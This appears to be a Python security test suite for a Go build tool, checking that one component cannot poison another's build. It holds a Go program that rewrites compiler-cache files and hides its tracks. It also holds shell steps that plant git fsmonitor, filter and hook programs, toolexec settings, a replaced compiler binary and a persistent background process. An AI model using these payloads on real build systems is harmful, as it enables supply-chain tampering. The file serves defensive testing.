"""Attacks on a verdict: upstream's code tries to get into what other components are built of (docs/decisions/0007, docs/security.md).

Three components of one lock, Go release and builder root: `good` is built first, then `evil`, then `victim`. Whatever evil does, the
victim has the bits that it has without evil, and no program of evil's runs inside a build by the go command. That an attack is one
shows where the defence is missing: VERBATIM_PROGRAM=<the program of 169f83d> fails them (docs/evidence/poison.md).
"""
import hashlib
import os
import pathlib
import shutil
import subprocess
import tempfile
import threading

import harness
import stores
from harness import check, git

VICTIM = """package main

import (
	"fmt"
	"strconv"
)

func main() {
	_, err := strconv.Atoi("x")
	fmt.Println("NAME", err)
}
"""
WORDS, ALTERED = b"invalid syntax", b"forged  syntax"  # stands in package strconv, and so in what the compiler made of it

# What evil lets run wherever it can: it changes compiled packages in every compiler cache that it finds, and leaves a trace in what
# is built beside it. Run by git it says that there is nothing to tell.
EVIL = """package main

import (
	"bytes"
	"os"
	"path/filepath"
)

func main() {
	for _, root := range []string{os.Getenv("GOCACHE"), "/tmp/go-build-cache"} {
		filepath.WalkDir(root, func(path string, entry os.DirEntry, err error) error {
			if err == nil && entry.Type().IsRegular() {
				if content, err := os.ReadFile(path); err == nil && bytes.Contains(content, []byte("%s")) {
					info, _ := entry.Info()
					os.Chmod(path, 0644)
					os.WriteFile(path, bytes.ReplaceAll(content, []byte("%s"), []byte("%s")), 0644)
					os.Chtimes(path, info.ModTime(), info.ModTime())
				}
			}
			return nil
		})
	}
	os.WriteFile("/build/src/.ran", []byte("x"), 0644)
	os.WriteFile("/out/ran", []byte("x"), 0644)
	os.Stdout.Write([]byte("token\\x00"))
}
""" % (WORDS.decode(), WORDS.decode(), ALTERED.decode())

# A repository that a step makes by hand, as the builder root `shell` has no git of its own to init with.
REPOSITORY = r"""
make_repository() { # where its git directory lies
    mkdir -p "$1/objects/info" "$1/objects/pack" "$1/refs/heads" "$1/refs/tags" "$1/hooks"
    cp -r /build/src/.git/objects/. "$1/objects/"
    cp /build/src/.git/HEAD /build/src/.git/packed-refs /build/src/.git/shallow /build/src/.git/index "$1/"
    printf '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n' > "$1/config"
}
"""


class World:
    """What all cases share: the evil program, compiled, and the bits of a victim that nobody attacks."""

    def __init__(self):
        self.holder = tempfile.TemporaryDirectory(prefix="verbatim-test-", ignore_cleanup_errors=True)
        self.folder = pathlib.Path(self.holder.name)
        self.evil = None
        self.clean = None
        self.fetched = False

    def evil_program(self):
        if self.evil is None:
            source = self.folder / "evil"
            source.mkdir()
            (source / "go.mod").write_text("module evil.example/run\n\ngo 1.21\n")
            (source / "main.go").write_text(EVIL)
            environment = {"PATH": os.environ["PATH"], "HOME": str(source), "GOCACHE": harness.go_cache(self.folder), "GOFLAGS": "", "GOENV": "off",
                           "GOTOOLCHAIN": "local", "CGO_ENABLED": "0", "GOPATH": str(source / "gopath")}
            subprocess.run(["go", "build", "-ldflags", "-s -w", "-o", "evil", "."], cwd=source, env=environment, check=True)
            self.evil = (source / "evil").read_bytes()
        return self.evil


WORLD = World()


def upstream(case, name, files):
    folder = case.folder / "upstreams" / name
    folder.mkdir(parents=True)
    git(folder, "init", "-q", "-b", "main")
    for path, content in files.items():
        place = folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content if isinstance(content, bytes) else content.encode())
        if isinstance(content, bytes):
            place.chmod(0o755)
    git(folder, "add", "-A", ".")
    git(folder, "commit", "-q", "-m", "one")
    git(folder, "tag", "v1.0.0")
    return folder, git(folder, "rev-parse", "HEAD")


def program(name):
    return {"go.mod": f"module poison.example/{name}\n\ngo 1.21\n", "main.go": VICTIM.replace("NAME", "victim" if name == "good" else name)}


def project(case, evil, definition="", modules="vendor", package=".", folder="."):
    """A lock of good, evil and victim. `evil`: files of its upstream; `definition`: more lines of its project.yaml."""
    case.project = case.folder / "project"
    shutil.copytree(harness.ROOT / "toolchains", case.project / "toolchains")
    (case.project / "releases").mkdir()
    lock = "branch: one\ncommitter: A <a@example.test>\ncomponents:\n"
    for name, files in (("good", program("victim")), ("evil", {**program("evil"), **evil}), ("victim", program("victim"))):
        place, commit = upstream(case, name, files)
        lock += f"""  example/{name}:
    tag: v1.0.0
    tag_object: {commit}
    commit: {commit}
    commit_time: 2026-01-02T03:04:05Z
    tags: {{v1.0.0: {commit}}}
    go: {{declared: "1.25", found: go1.25.12}}
"""
        own = name == "evil"
        described = case.project / f"projects/example/{name}/project.yaml"
        described.parent.mkdir(parents=True)
        described.write_text(f"""source: file://{place}
root: git
modules: {modules if own else "vendor"}
platforms: [linux/amd64]
environment: {{CGO_ENABLED: "0"}}
flags: ["-trimpath"]
output: "{{os}}-{{arch}}/{{name}}"
{definition if own else ""}builds:
  - module: {folder if own else "."}
    binaries: {{{name}: {package if own else "."}}}
""")
    (case.project / "releases/one.yaml").write_text(lock)
    take_inputs(case)


def take_inputs(case):
    """The case's own store, with what the builds begin with from the test store. To fetch runs no code of upstream's, and `good` is."""
    if not WORLD.fetched:
        case.store = harness.SHARED_STORE
        case.start("fetch", "one", "--quiet").communicate()  # of evil, what can be had
        build(case, "good", 0)
        WORLD.fetched = True
    stores.copy_of_store(case, harness.SHARED_STORE, case.folder / "store", is_input)


def is_input(action):
    return action.startswith("fetch builder root") or action.startswith(stores.INPUTS) and "go1.25.12" in action


# Runs what lies in the upstream as attack.sh.
STEP = """prepare:
  - run: [bash, -e, attack.sh]
    root: shell
"""


def script(text):
    return {"attack.sh": REPOSITORY + text, "evil": WORLD.evil_program()}


def build(case, name, status=None):
    out = case.folder / "out" / name
    process = case.start("build", "one", f"example/{name}", "--out", out, "--quiet")
    _, err = process.communicate(timeout=900)
    if status is not None:
        check(process.returncode == status, f"{name}: exit status {process.returncode}\n{err}")
    place = out / "linux-amd64" / name
    return process.returncode, err, place.read_bytes() if place.exists() else None


def attacked(case):
    """Builds good, evil, victim. What evil's build came to: its exit status and what was said; the victim is as it is without evil."""
    _, _, good = build(case, "good", 0)
    status, said, evil = build(case, "evil")
    _, _, victim = build(case, "victim", 0)
    check(WORDS in victim and ALTERED not in victim, "the victim was linked with what evil altered")
    check(hashlib.sha256(victim).digest() == hashlib.sha256(expected(case)).digest(), "the victim has other bits than without evil")
    # Where it ran, and the build failed of it, what it left or printed is in the error.
    ran = (evil is not None and ALTERED in evil) or "of ran cannot be read" in said or "token" in said
    check(not ran, "a program of evil's ran inside its build by the go command\n" + said)
    check(good is not None, "good was not built")
    stores.sound(case)
    return status, said


def expected(case):
    """The victim's bits, built cold in a store that never saw evil."""
    if WORLD.clean is None:
        kept, case.store = case.store, case.folder / "clean"
        stores.copy_of_store(case, harness.SHARED_STORE, case.store, is_input)
        case.verbatim("build", "one", "example/victim", "--cold", "--out", case.folder / "cold", "--quiet")
        WORLD.clean = (case.folder / "cold/linux-amd64/victim").read_bytes()
        case.store = kept
    return WORLD.clean


def refused(case, *words):
    status, said = attacked(case)
    check(status == 3, f"evil was built\n{said}")
    for word in words:
        check(word in said, f"{word!r} is not in\n{said}")


# A second repository, in a folder that is a module of its own: what the go command asks git about.
MODULE = {"sub/go.mod": "module poison.example/evil\n\ngo 1.21\n", "sub/main.go": VICTIM.replace("NAME", "evil")}


def in_module(case, text):
    project(case, {**MODULE, **script(text)}, STEP, folder="sub")


def test_a_repository_that_a_step_leaves_with_a_program_as_its_fsmonitor(case):
    """The attack that worked."""
    in_module(case, "make_repository sub/.git\nprintf '\\tfsmonitor = /build/src/evil\\n' >> sub/.git/config\n")
    refused(case, "sub/.git")


def test_the_same_by_an_included_configuration(case):
    in_module(case, "make_repository sub/.git\nprintf '[core]\\n\\tfsmonitor = /build/src/evil\\n' > sub/settings\n"
              "printf '[include]\\n\\tpath = ../settings\\n' >> sub/.git/config\n")
    refused(case, "sub/.git")


def test_attributes_with_a_filter(case):
    in_module(case, "make_repository sub/.git\necho '* filter=x' > sub/.gitattributes\n"
              "printf '[filter \"x\"]\\n\\tclean = /build/src/evil\\n\\trequired = true\\n' >> sub/.git/config\n")
    refused(case, "sub/.git")


def test_hooks_of_its_own(case):
    in_module(case, "make_repository sub/.git\nfor hook in post-index-change reference-transaction fsmonitor-watchman; do cp evil sub/.git/hooks/$hook; done\n")
    refused(case, "sub/.git")


def test_a_worktrees_file_in_place_of_the_folder(case):
    in_module(case, "make_repository sub/other\nprintf '\\tfsmonitor = /build/src/evil\\n\\tworktree = /build/src/sub\\n' >> sub/other/config\n"
              "echo 'gitdir: other' > sub/.git\n")
    refused(case, "sub/.git")


def test_a_link_in_place_of_the_folder(case):
    in_module(case, "make_repository sub/other\nprintf '\\tfsmonitor = /build/src/evil\\n' >> sub/other/config\nln -s other sub/.git\n")
    refused(case, "sub/.git")


def test_other_spellings_and_other_systems(case):
    in_module(case, "mkdir -p sub/a/.GiT sub/b/.hg sub/c/.svn sub/d/.bzr && touch sub/.fslckout\n")
    refused(case, "left a repository of a version control system: sub/")


def test_a_bare_repository(case):
    in_module(case, "make_repository sub\nprintf '\\tfsmonitor = /build/src/evil\\n' >> sub/config\n")
    refused(case, "version control system: sub\n")  # the go command does not look for one; others may


def test_a_git_directory_changed_at_the_top(case):
    project(case, script("printf '[core]\\n\\tfsmonitor = /build/src/evil\\n' >> .git/config\nmkdir -p .git/hooks\ncp evil .git/hooks/post-index-change\n"), STEP)
    status, said = attacked(case)
    check(status == 0, said)


def test_a_submodules_directory_below_the_top_one(case):
    in_module(case, "make_repository .git/modules/sub\nprintf '\\tfsmonitor = /build/src/evil\\n' >> .git/modules/sub/config\n"
              "echo 'gitdir: ../.git/modules/sub' > sub/.git\n")
    refused(case, "sub/.git")


def test_a_patch_that_adds_a_repository(case):
    project(case, dict(MODULE), folder="sub")
    folder = case.project / "patches/example/evil/one"
    folder.mkdir(parents=True)
    (folder / "0001-x.patch").write_text("""From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001
From: A <a@example.test>
Date: Fri, 2 Jan 2026 03:04:05 +0000
Subject: [PATCH] x

---
 sub/.git/config | 2 ++
 1 file changed, 2 insertions(+)
 create mode 100644 sub/.git/config

diff --git a/sub/.git/config b/sub/.git/config
new file mode 100644
index 0000000..1111111
--- /dev/null
+++ b/sub/.git/config
@@ -0,0 +1,2 @@
+[core]
+\tfsmonitor = /build/src/evil
--
2.39.5
""")
    refused(case, "sub/.git/config")


def test_a_module_zip_that_carries_a_repository(case):
    """Its hash is right: the checksum database has what its author published."""
    prefix = "dep.example/dep@v1.0.0/"
    mod = b"module dep.example/dep\n"
    files = {prefix + "go.mod": mod, prefix + "dep.go": b"package dep\n", prefix + ".git/config": b"[core]\n\tfsmonitor = /build/src/evil\n"}
    versions = case.folder / "proxy/dep.example/dep/@v"
    harness.write_zip(versions / "v1.0.0.zip", files)
    (versions / "v1.0.0.mod").write_bytes(mod)
    sums = f"dep.example/dep v1.0.0 {harness.h1(files)}\ndep.example/dep v1.0.0/go.mod {harness.h1({'go.mod': mod})}\n"
    project(case, {"go.mod": "module poison.example/evil\n\ngo 1.21\n\nrequire dep.example/dep v1.0.0\n", "go.sum": sums,
                   "dep.go": 'package main\n\nimport _ "dep.example/dep"\n'}, modules="cache")
    case.environment["GOPROXY"] = f"file://{case.folder}/proxy"
    refused(case, "dep.example/dep@v1.0.0", ".git/config")


def test_what_a_step_plants_outside_of_the_tree(case):
    """In GOPATH, HOME, TMPDIR, Go's and git's settings, the compiler cache; and a process that stays behind to do it again."""
    project(case, script("""
/build/src/evil > /dev/null; rm -f .ran
mkdir -p "$HOME/.config/go" "$HOME/.config/git" /go/bin /tmp/go-build-cache/00
echo 'GOFLAGS=-toolexec=/build/src/evil' > "$HOME/.config/go/env"
printf '[core]\\n\\tfsmonitor = /build/src/evil\\n' | tee "$HOME/.gitconfig" > "$HOME/.config/git/config"
cp evil /go/bin/git; cp evil /tmp/git; cp evil "$HOME/git"
(chmod u+w /usr/local/go/go.env; echo 'GOFLAGS=-toolexec=/build/src/evil' >> /usr/local/go/go.env) 2> /dev/null || true
(chmod u+w /usr/local/go/pkg/tool/linux_amd64/compile; cp evil /usr/local/go/pkg/tool/linux_amd64/compile) 2> /dev/null || true
(setsid bash -c 'while sleep 0.2; do /build/src/evil > /dev/null; done' &) > /dev/null 2>&1
go test -c -o /dev/null . && go build -o /dev/null . && /build/src/evil > /dev/null; rm -f .ran
"""), STEP)
    status, said = attacked(case)
    check(status == 0, said)


def test_files_of_the_source_that_the_go_command_obeys(case):
    """A toolchain line, go.work, a tool, a profile of its own, a vendor folder and an index of a step's."""
    project(case, {"go.mod": "module poison.example/evil\n\ngo 1.21\n\ntoolchain go1.99.0\n", "default.pgo": b"x",
                   "go.env": "GOFLAGS=-toolexec=/build/src/evil\n", **script("mkdir -p vendor && echo '# nothing' > vendor/modules.txt && rm -f default.pgo && ln -s /tmp/go-build-cache cache\n"
                 "printf 'go 1.21\\n\\ntoolchain go1.99.0\\n\\nuse .\\n' > go.work\n")}, STEP, modules="tree")
    status, said = attacked(case)
    check(status == 0, said)


def test_links_into_the_compiler_cache(case):
    project(case, script("ln -s /tmp/go-build-cache linked; ln -s /tmp/go-build-cache/00 x; ln -s /usr/local/go/src y\n"), STEP)
    status, said = attacked(case)
    check(status == 0, said)


def test_two_runs_at_once_on_one_store(case):
    in_module(case, "make_repository sub/.git\nprintf '\\tfsmonitor = /build/src/evil\\n' >> sub/.git/config\n")
    build(case, "good", 0)
    came = {}
    threads = [threading.Thread(target=lambda name=name: came.__setitem__(name, build(case, name))) for name in ("evil", "victim")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    check(came["evil"][0] == 3 and came["victim"][0] == 0, str([(name, one[0], one[1]) for name, one in came.items()]))
    check("sub/.git" in came["evil"][1], came["evil"][1])  # refused, and not failed of what its program left
    check(came["victim"][2] == expected(case), "the victim has other bits than without evil")


def test_a_build_that_runs_its_own_program_harms_itself_alone(case):
    """A definition may ask for it (-toolexec): its own bits are what it makes of them, and nobody else's are."""
    project(case, {"evil": WORLD.evil_program()})
    described = case.project / "projects/example/evil/project.yaml"
    described.write_text(described.read_text().replace('["-trimpath"]', '["-trimpath", "-toolexec=/build/src/evil"]'))
    build(case, "good", 0)
    _, said, _ = build(case, "evil")
    check("token" in said, "evil's program did not run\n" + said)
    _, _, victim = build(case, "victim", 0)
    check(victim == expected(case), "the victim has other bits than without evil")


# One of each kind; all of them in `make test-long` (VERBATIM_POISON=all).
QUICK = (test_a_repository_that_a_step_leaves_with_a_program_as_its_fsmonitor, test_a_submodules_directory_below_the_top_one,
         test_a_patch_that_adds_a_repository, test_a_module_zip_that_carries_a_repository, test_what_a_step_plants_outside_of_the_tree,
         test_files_of_the_source_that_the_go_command_obeys, test_two_runs_at_once_on_one_store,
         test_a_build_that_runs_its_own_program_harms_itself_alone)
chosen = globals() if os.environ.get("VERBATIM_POISON") == "all" else {test.__name__: test for test in QUICK}
try:
    harness.main(chosen)
finally:
    WORLD.holder.cleanup()
